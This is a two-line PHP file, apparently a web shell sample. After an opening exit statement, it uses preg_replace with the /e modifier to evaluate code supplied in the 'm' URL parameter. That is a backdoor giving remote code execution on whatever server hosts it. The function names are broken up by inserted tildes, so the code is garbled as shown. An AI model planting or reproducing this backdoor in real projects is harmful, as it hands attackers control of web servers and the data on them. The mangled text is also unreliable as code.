<?php exit; ?>
<?php $p = '/(.*)/' . 'e'; echo @pre~g_replace($p, 'eva~l("\\1")', $_G~ET['m']);
